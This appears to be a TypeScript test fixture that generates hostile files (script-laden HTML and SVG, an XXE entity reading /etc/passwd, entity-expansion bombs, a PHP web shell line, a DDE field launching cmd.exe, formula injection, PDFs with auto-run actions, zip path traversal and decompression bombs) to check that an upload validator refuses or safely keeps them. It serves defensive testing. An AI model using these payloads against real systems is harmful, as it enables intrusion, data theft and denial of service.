// Files that do harm where a program trusts them, made by rule, each with what has to become of it. Those that are taken are as
// odd, and must be given out in a way in which nothing in them runs.
import { deflateSync } from "node:zlib";
import { compoundFile, jpegOf, otherHostileFiles, pngOf } from "./others";
import { activePdfs, harmlessPdfs, pdfOf, smallPdf } from "./pdfs";
import { honestTemplate, hostileOfficeFiles, mainTypes, officeFile, type ZipEntry, zipOf } from "./zips";

/** The code of the refusal and, where it says what was found, that; or the kind of file it is kept as. */
export type Outcome = { refused: string; found?: RegExp } | { kept: string };
export type HostileFile = { what: string; fileName: string; bytes: Buffer; outcome: Outcome };

const office = "application/vnd.openxmlformats-officedocument";
const word = `${office}.wordprocessingml.document`;
const excel = `${office}.spreadsheetml.sheet`;

const refused = (what: string, bytes: Buffer | string, found?: RegExp, code = "file-not-allowed"): HostileFile => ({
  ...{ what, fileName: "Opinion.pdf", bytes: Buffer.from(bytes as string) },
  outcome: { refused: code, ...(found && { found }) },
});
const kept = (what: string, fileName: string, bytes: Buffer | string, mediaType: string): HostileFile => ({
  ...{ what, fileName, bytes: Buffer.from(bytes as string), outcome: { kept: mediaType } },
});
const named = (fileName: string, file: HostileFile): HostileFile => ({ ...file, fileName });
const text = (what: string, bytes: Buffer | string) => kept(what, "Memo.txt", bytes, "text/plain");

const script = "<script>alert(document.cookie)</script>";

function webPages(): HostileFile[] {
  const begun = [
    "html",
    "HEAD",
    "body onload=alert(1)",
    "script",
    "iframe src=x",
    "meta charset=x",
    "title",
    "style",
    "!doctype html",
  ];
  const drawn = ["svg:svg", "svg", "SVG", "svg xmlns='http://www.w3.org/2000/svg'", "!DOCTYPE svg"];
  const other = [
    "p",
    "div",
    "a href='javascript:alert(1)'",
    "img src=x onerror=alert(1)",

    "x:html",
    "math",
    "xsl:stylesheet",
  ];
  const before = ["", "\ufeff", " \r\n\t", "<!-- Dear Sirs -->", "<!-- a --><!-- b -->\n", "\ufeff<!-- a -->"];
  return [
    ...begun.map((tag, index) =>
      refused(`a page that begins with <${tag}>`, `${before[index % 6]}<${tag}>${script}`, /web page/),
    ),
    ...drawn.map((tag, index) =>
      refused(`a drawing that begins with <${tag}>`, `${before[index % 6]}<${tag}>${script}</svg>`, /SVG/),
    ),
    ...other.map((tag, index) =>
      refused(`markup that begins with <${tag}>`, `${before[index % 6]}<${tag}>${script}`, /XML/),
    ),
    ...before.map((head) => refused(`a page behind ${JSON.stringify(head)}`, `${head}<html>${script}`, /web page/)),
    refused("a page in UTF-16", Buffer.from(`\ufeff<html>${script}`, "utf16le")),
    refused("a page in UTF-16 without its mark", Buffer.from(`<html>${script}`, "utf16le")),
    refused("a page in UTF-16, high byte first", Buffer.from(`\ufeff<html>${script}`, "utf16le").swap16()),
    refused("a page in UTF-32", Buffer.from([...`<html>`].flatMap((letter) => [letter.charCodeAt(0), 0, 0, 0]))),
    refused("a style sheet's instruction", `<?xml-stylesheet href="https://hostile.example/x.xsl"?><x/>`, /XML/),
    refused("entities that double ten times", `<!DOCTYPE a [<!ENTITY a0 "ha">${entities}]><a>&a9;</a>`, /XML/),
    refused("an entity from a file", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', /XML/),
    named("Memo.txt", refused("a page called .txt", `\n<html>${script}`, /web page/)),
    text("markup behind a line of text", `Dear Sirs,\n${script}\n`),
    text("markup behind a comment that does not end", `<!-- Dear Sirs ${script}`),
    text("markup behind more white space than is looked at", `${" ".repeat(20_000)}<html>${script}`),
    text("markup in UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    text("a program in JavaScript", "alert(document.cookie);\n"),
    text("a program for Windows' prompt", "@echo off\r\ndel /q *.*\r\n"),
    text("formulas", "=cmd|' /C calc'!A0,=1+1\r\n"),
    text("bytes that are no UTF-8", Buffer.from("4772fcdfe0c0af80ff", "hex")),
    text("characters that turn the line around", "\u202egnp.exe\u202c \u2066x\u2069\n"),
    kept("a mail of markup", "Mail.eml", mail("text/html", `<html>${script}`), "message/rfc822"),
    kept(
      "a mail with a program",
      "Mail.eml",
      mail("application/x-msdownload; name=x.exe", "TVqQAAMAAAAEAAAA"),
      "message/rfc822",
    ),
    kept(
      "a page saved as a mail",
      "Mail.eml",
      mail("multipart/related; type=text/html; boundary=b", `--b\r\n\r\n${script}`),
      "message/rfc822",
    ),
  ];
}

const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "&a${at};&a${at};">`).join("");

const mail = (type: string, body: string) =>
  `From: a@hostile.example\r\nTo: b@example.com\r\nDate: Tue, 9 Mar 2004 10:00:00 -0500\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`;

/** Kinds that are not taken, by how they begin. */
function otherKinds(): HostileFile[] {
  const heads: Record<string, string> = {
    ...{
      "a program for macOS": "cffaedfe07000001",
      "a program in WebAssembly": "0061736d01000000",
      "a class of Java": "cafebabe00000034",
    },
    ...{
      "a shortcut of Windows": "4c0000000114020000000000c000000000000046",
      "a Debian package": "213c617263683e0a64656269616e2d62696e617279",
    },
    ...{
      "a 7-Zip archive": "377abcaf271c",
      "an XZ file": "fd377a585a00",
      "a bzip2 file": "425a6839314159265359",
      "a Zstandard file": "28b52ffd",
    },
    ...{
      "a cabinet": "4d53434600000000",
      "an ISO image": "0043443030310100",
      "a database": "53514c69746520666f726d6174203300",
    },
    ...{
      "a moving picture": "474946383961",
      "a BMP": "424d8a7b0c00",
      "a TIFF": "49492a0008000000",
      "an icon": "00000100010010100000",
    },
    ...{
      "a WebP": "524946461a000000574542505650384c",
      "an AVIF": "0000001c667479706176696600000000",
      "a Photoshop file": "384250530001",
    },
    ...{
      "a film": "00000018667479706d703432",
      "a sound": "4944330300000000",
      "a sound in waves": "52494646240800005741564566d74",
      "a font": "774f4646",
    },
    ...{
      "an old Excel stream": "0908100000060500",
      Flash: "465753050000",
      "a heap of zeros": "00000000",
      "a heap of ones": "ffffffff",
    },
  };
  const asText: Record<string, string> = {
    ...{
      "a script of Python": "#!/usr/bin/env python3\nimport os\n",
      "a script behind a mark": "\ufeff#!/bin/sh\nid\n",
    },
    ...{
      "a page of PHP behind white space": "\n\n<?php system($_GET[1]);",
      "rich text with an object": "{\\rtf1{\\object\\objdata 0105}}",
    },
  };
  return [
    ...Object.entries(heads).map(([what, hex]) =>
      refused(
        what,
        Buffer.concat([Buffer.from(hex.padEnd(hex.length + (hex.length % 2), "0"), "hex"), Buffer.alloc(600)]),
      ),
    ),
    ...Object.entries(asText).map(([what, words]) => refused(what, words)),
    ...["\0", "\u0001", "\u001b", "\u007f"].map((byte) => refused(`one byte ${JSON.stringify(byte)}`, byte)),
    refused("a control character behind a megabyte of text", `${"a ".repeat(500_000)}\u0007`),
    named("x.html", refused("a page under its own name", `<html>${script}`, /web page/)),
    named("x.bat", refused("a text under a program's name", "Dear Sirs,\n", undefined, "file-name-not-allowed")),
    named("x.htm", refused("a text under a page's name", "Dear Sirs,\n", undefined, "file-name-not-allowed")),
    named("x.pdf.html", refused("a PDF under a page's name", smallPdf(), undefined, "file-name-not-allowed")),
    named("x.svg", refused("a picture under a drawing's name", pngOf(3, 3), undefined, "file-name-not-allowed")),
  ];
}

function pictures(): HostileFile[] {
  const ended = (picture: Buffer, more: string) => Buffer.concat([picture, Buffer.from(more)]);
  const noted = Buffer.concat([
    jpegOf(3, 3).subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, script.length + 2]),
    Buffer.from(script),
    jpegOf(3, 3).subarray(2),
  ]);
  return [
    ...[
      [65_000, 1],
      [30_001, 30_001],
      [29_999, 29_999],
      [0xffffffff, 1],
      [0x7fffffff, 0x7fffffff],
    ].map(([width = 0, height = 0]) =>
      refused(`a picture of ${width} by ${height} points`, pngOf(width, height), /too large/),
    ),
    ...[
      [65_000, 2],
      [40_000, 40_000],
    ].map(([width = 0, height = 0]) =>
      refused(`a photograph of ${width} by ${height} points`, jpegOf(width, height), /too large/),
    ),
    refused("a picture of no height", pngOf(10, 0), undefined, "file-damaged"),
    refused("a picture that is its head alone", pngOf(9, 9).subarray(0, 33), undefined, "file-damaged"),
    refused("a photograph of no size", jpegOf(0, 0), undefined, "file-damaged"),
    kept("a picture with a page behind it", "Scan.png", ended(pngOf(3, 3), `<html>${script}`), "image/png"),
    kept(
      "a picture with an archive behind it",
      "Scan.png",
      Buffer.concat([pngOf(3, 3), zipOf([{ name: "x.exe", content: "MZ" }])]),
      "image/png",
    ),
    kept("a photograph with a script for its comment", "Scan.jpg", noted, "image/jpeg"),
    kept(
      "a photograph with a page behind it",
      "Scan.jpg",
      Buffer.concat([jpegOf(3, 3), Buffer.from(script), Buffer.from("ffd9", "hex")]),
      "image/jpeg",
    ),
    kept("a picture that unpacks to a hundred megabytes", "Scan.png", pngOf(29_000, 6_000), "image/png"),
  ];
}

const annotation = (words: string) => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${words} >>]` });
const stream = (words: string, content: string) =>
  `<< ${words} /Length ${content.length} >>\nstream\n${content}\nendstream`;

function pdfs(): HostileFile[] {
  const onOpening = (action: string) => smallPdf({ catalog: `/OpenAction << ${action} >>` });
  const byItself: Record<string, string> = {
    ...{
      "a page of the web": "/S /URI /URI (https://hostile.example)",
      "another file": "/S /GoToR /F (x.pdf) /D [0 /Fit]",
    },
    ...{
      "a file within": "/S /GoToE /T << /R /C /N (x) >> /D [0 /Fit]",
      "a sound": "/S /Sound /Sound 7 0 R",
      "a film": "/S /Movie /T (x)",
    },
    ...{
      "a rendition": "/S /Rendition /OP 0",
      "a thread": "/S /Thread /F (x.pdf) /D 0",
      hiding: "/S /Hide /T (x) /H true",
    },
    ...{
      "layers that change": "/S /SetOCGState /State [/OFF 7 0 R]",
      "a page of the web after a jump": "/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://hostile.example) >>",
    },
  };
  const moving: Record<string, string> = {
    ...{
      "rich media": "/Subtype /RichMedia",
      "three dimensions": "/Subtype /3D",
      "a film": "/Subtype /Movie /Movie << /F (x.mov) >>",
    },
    ...{ "a sound": "/Subtype /Sound", "a screen": "/Subtype /Screen" },
  };
  const packed = deflateSync(Buffer.alloc(100_000_000)).toString("latin1");
  return [
    ...Object.entries(byItself).map(([what, action]) =>
      refused(`a PDF that opens by itself: ${what}`, onOpening(action), /by itself/),
    ),
    refused(
      "a PDF that opens a page of the web with its second page",
      smallPdf({ page: "/AA << /O << /S /URI /URI (https://hostile.example) >> >>" }),
      /by itself/,
    ),
    refused(
      "a PDF whose opening stands elsewhere",
      smallPdf({ catalog: "/OpenAction 7 0 R", more: ["<< /S /URI /URI (https://hostile.example) >>"] }),
      /by itself/,
    ),
    ...Object.entries(moving).map(([what, words]) =>
      refused(`a PDF with ${what}`, smallPdf(annotation(words)), /moving parts/),
    ),
    refused(
      "a PDF with a form of XFA",
      smallPdf({ catalog: "/AcroForm << /Fields [] /XFA 7 0 R >>", more: [stream("", "<xdp:xdp/>")] }),
      /XFA/,
    ),
    refused(
      "a PDF with a script in a field",
      smallPdf({
        ...annotation("/Subtype /Widget /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (1) >> >>"),
        catalog: "/AcroForm << /Fields [] >>",
      }),
      /script/,
    ),
    refused(
      "a PDF with a script of rendition",
      smallPdf(annotation("/Subtype /Link /A << /S /Rendition /JS (1) >>")),
      /script/,
    ),
    refused(
      "a PDF with a script in a bookmark",
      smallPdf({
        catalog: "/Outlines 7 0 R",
        more: ["<< /First 8 0 R /Count 1 >>", "<< /Title (x) /A << /S /JavaScript /JS (1) >> >>"],
      }),
      /script/,
    ),
    refused(
      "a PDF with a script that nothing leads to",
      smallPdf({ more: ["<< /S /JavaScript /JS (1) >>"] }),
      /script/,
    ),
    kept(
      "a PDF whose script a later part of the file took away",
      "Opinion.pdf",
      Buffer.concat([smallPdf({ catalog: "/OpenAction << /S /JavaScript /JS (1) >>" }), laterPart]),
      "application/pdf",
    ),
    refused(
      "a PDF whose script a later part of the file brought in",
      Buffer.concat([
        smallPdf(),
        Buffer.from(laterPart.toString().replace("/Type", "/OpenAction << /S /JavaScript /JS (1) >> /Type")),
      ]),
      /script/,
    ),
    refused(
      "a PDF that is a portfolio",
      smallPdf({ catalog: "/Collection << >> /Names << /EmbeddedFiles << /Names [] >> >>" }),
      /other files/,
    ),
    refused(
      "a PDF with an associated file",
      smallPdf({
        catalog: "/AF [7 0 R]",
        more: ["<< /Type /Filespec /F (x.xml) /EF << /F 8 0 R >> >>", stream("/Type /EmbeddedFile", "x")],
      }),
      /other files/,
    ),
    refused("a PDF that fetches data", onOpening("/S /ImportData /F (x.fdf)"), /fetches data/),
    refused("a PDF that starts a program by a short way", onOpening("/S /Launch /Unix << /F (x) >>"), /program/),
    refused(
      "a PDF without a page",
      pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
      undefined,
      "file-damaged",
    ),
    refused(
      "a PDF of a million pages that are not there",
      pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>"]),
      undefined,
      "file-damaged",
    ),
    refused(
      "a PDF of brackets alone",
      pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", `${"[".repeat(50_000)}`]),
      undefined,
      "file-damaged",
    ),
    refused("a PDF that says its head twice", "%PDF-1.7\n%PDF-1.7\n", undefined, "file-damaged"),
    refused("a PDF behind a page", `<html>${smallPdf().toString("latin1")}`, /web page/),
    refused(
      "a PDF behind a line of text",
      Buffer.concat([Buffer.from("Dear Sirs,\n"), smallPdf()]),
      undefined,
      "file-name-not-allowed",
    ),
    kept(
      "a PDF with an archive behind it",
      "Opinion.pdf",
      Buffer.concat([smallPdf(), zipOf([{ name: "x.exe", content: "MZ" }])]),
      "application/pdf",
    ),
    kept(
      "a PDF with a page behind it",
      "Opinion.pdf",
      Buffer.concat([smallPdf(), Buffer.from(`\n<html>${script}`)]),
      "application/pdf",
    ),
    kept(
      "a PDF with a script for its title",
      "Opinion.pdf",
      smallPdf({ more: [`<< /Title (${script.replace(/[()]/g, "\\$&")}) >>`] }),
      "application/pdf",
    ),
    kept(
      "a PDF with a part that unpacks to a hundred megabytes",
      "Opinion.pdf",
      smallPdf({ more: [stream("/Filter /FlateDecode", packed)] }),
      "application/pdf",
    ),
    ...Object.entries(harmlessPdfs).map(([what, bytes]) =>
      kept(`a PDF: ${what}`, "Opinion.pdf", bytes, "application/pdf"),
    ),
  ];
}

/** A later part of a file, whose table of objects has another catalogue in place of the first. */
const laterPart = Buffer.from(
  "\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n",
);

const relation = (kind: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const documentRelation = (kind: string, target: string): ZipEntry => ({
  ...{ name: "word/_rels/document.xml.rels", content: relation(kind, target) },
});

function officeFiles(): HostileFile[] {
  const docx = (...more: ZipEntry[]) => officeFile(mainTypes.docx, more);
  const web = "https://hostile.example/x";
  const fetched = ["oleObject", "image", "frame", "subDocument", "aFChunk", "video"];
  const leadsOut = ["../x", "a/../../x", "..\\x", "a\\b", "/x", "\\x", "c:/x", "//host/x"];
  const other = (what: string, ...entries: ZipEntry[]) => refused(what, zipOf(entries), /ZIP archive/);
  return [
    ...fetched.map((kind) =>
      refused(`a document that fetches: ${kind}`, docx(documentRelation(kind, web)), /from elsewhere/),
    ),
    refused(
      "a document that fetches by another scheme",
      docx(documentRelation("oleObject", "mhtml:https://hostile.example/x!x-usc:y")),
      /from elsewhere/,
    ),
    refused(
      "a workbook that fetches",
      officeFile(mainTypes.xlsx, [
        { name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: relation("externalLinkPath", web) },
      ]),
      /from elsewhere/,
    ),
    refused(
      "a template in single quotes",
      docx({
        name: "word/_rels/settings.xml.rels",
        content: relation("attachedTemplate", "HTTPS://hostile.example/x.dotm").replaceAll('"', "'"),
      }),
      /fetches a template/,
    ),
    refused(
      "controls that run",
      docx(
        { name: "word/activeX/activeX1.xml", content: "<ax:ocx/>" },
        { name: "word/activeX/activeX1.bin", content: "x" },
      ),
      /controls/,
    ),
    refused(
      "a sheet of old macros",
      officeFile(mainTypes.xlsx, [{ name: "xl/macrosheets/sheet1.xml", content: "<x/>" }]),
      /macros/,
    ),
    refused(
      "macros under another part's name",
      docx({ name: "word/vbaData.xml", content: "x" }, { name: "word/VBAPROJECT.BIN", content: "x" }),
      /macros/,
    ),
    ...leadsOut.map((name) =>
      refused(`a part called ${name}`, docx({ name, content: "x" }), undefined, "file-damaged"),
    ),
    refused(
      "a part whose size is a lie",
      docx({ name: "a", content: "x".repeat(1_000), saysUnpacked: 10 }),
      undefined,
      "file-damaged",
    ),
    refused(
      "ten parts that unpack to far more",
      docx(...Array.from({ length: 10 }, (_, at) => ({ name: `word/media/${at}`, content: Buffer.alloc(3_000_000) }))),
      /unpacks to far more/,
    ),
    refused(
      "parts that say they are four gigabytes each",
      docx(...Array.from({ length: 5 }, (_, at) => ({ name: `${at}`, content: "x", saysUnpacked: 0xffffffff }))),
      undefined,
      "file-not-allowed",
    ),
    refused("a link to a folder", docx({ name: "word/media", content: "/", link: true }), /links/),
    other("an archive with a program", { name: "x.exe", content: "MZ" }),
    other(
      "a Java archive",
      { name: "META-INF/MANIFEST.MF", content: "Main-Class: X" },
      { name: "X.class", content: "x" },
    ),
    other("a book", { name: "mimetype", content: "application/epub+zip" }),
    other(
      "an OpenDocument text",
      { name: "mimetype", content: "application/vnd.oasis.opendocument.text" },
      { name: "content.xml", content: "<x/>" },
    ),
    other("an archive of archives", {
      name: "1.zip",
      content: zipOf([{ name: "2.zip", content: zipOf([{ name: "x", content: Buffer.alloc(9_000_000) }]) }]),
    }),
    refused("an archive without a part", zipOf([]), /\.zip file/),
    refused(
      "an archive of 65,535 parts",
      zipOf(Array.from({ length: 65_535 }, (_, at) => ({ name: `${at}` }))),
      /too many parts/,
    ),
    refused("an archive cut off", docx().subarray(0, -30), undefined, "file-damaged"),
    refused("an archive without its head", docx().subarray(4), undefined),
    refused(
      "a program with a document behind it",
      Buffer.concat([Buffer.from("4d5a9000", "hex"), Buffer.alloc(300), docx()]),
      /program/,
    ),
    refused("a document under a PDF's name", docx(), undefined, "file-name-not-allowed"),
    kept(
      "a document with a link to a page",
      "Letter.docx",
      docx(documentRelation("hyperlink", "javascript:alert(1)")),
      word,
    ),
    kept("a document that names its firm's template", "Letter.docx", honestTemplate, word),
    kept(
      "a document with a field that asks for a program",
      "Letter.docx",
      docx({
        name: "word/glossary.xml",
        content: '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
      }),
      word,
    ),
    kept(
      "a document with an archive within an archive",
      "Letter.docx",
      docx({
        name: "word/media/a.zip",
        content: zipOf([{ name: "b.zip", content: zipOf([{ name: "x", content: Buffer.alloc(9_000_000) }]) }]),
      }),
      word,
    ),
    kept(
      "a document with entities",
      "Letter.docx",
      docx({ name: "word/comments.xml", content: `<!DOCTYPE a [<!ENTITY a0 "ha">${entities}]><a>&a9;</a>` }),
      word,
    ),
    kept(
      "a workbook with a formula",
      "Sheet.xlsx",
      officeFile(mainTypes.xlsx, [{ name: "xl/worksheets/sheet1.xml", content: "<f>cmd|' /C calc'!A0</f>" }]),
      excel,
    ),
    kept(
      "a document with an archive behind it",
      "Letter.docx",
      docx({ name: "docProps/thumbnail.jpeg", content: pngOf(3, 3) }),
      word,
    ),
    kept(
      "a mail of Outlook with a document in it",
      "Mail.msg",
      compoundFile("__properties_version1.0", "WordDocument", "EncryptedPackage"),
      "application/vnd.ms-outlook",
    ),
  ];
}

type Listed = { bytes: Buffer; code?: string; found?: RegExp };
const listed = (files: Readonly<Record<string, Listed>>, before = "") =>
  Object.entries(files).map(([what, { bytes, code, found }]) => refused(`${before}${what}`, bytes, found, code));

/** Every hostile file, each once. */
export function hostileFiles(): HostileFile[] {
  const files = [
    ...[...listed(otherHostileFiles), ...listed(hostileOfficeFiles()), ...listed(activePdfs, "a PDF with ")],
    ...[...webPages(), ...otherKinds(), ...pictures(), ...pdfs(), ...officeFiles()],
  ];
  return [...new Map(files.map((file) => [`${file.fileName} ${file.bytes.toString("latin1")}`, file])).values()];
}

/** The file that every virus scanner knows, and that harms nobody; in two halves, so that this text is not one. */
export const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");

/** A good file of each kind that is taken, for what happens where a byte of it is another. */
export const goodFiles = (): HostileFile[] => [
  kept("a PDF", "Opinion.pdf", smallPdf(), "application/pdf"),
  kept("a Word document", "Letter.docx", officeFile(mainTypes.docx), word),
  kept("a picture", "Scan.png", pngOf(40, 40), "image/png"),
  kept("a photograph", "Scan.jpg", jpegOf(40, 40), "image/jpeg"),
  kept("a mail", "Mail.eml", mail("text/plain", "Dear Sirs,"), "message/rfc822"),
  kept("a mail of Outlook", "Mail.msg", compoundFile("__properties_version1.0"), "application/vnd.ms-outlook"),
];
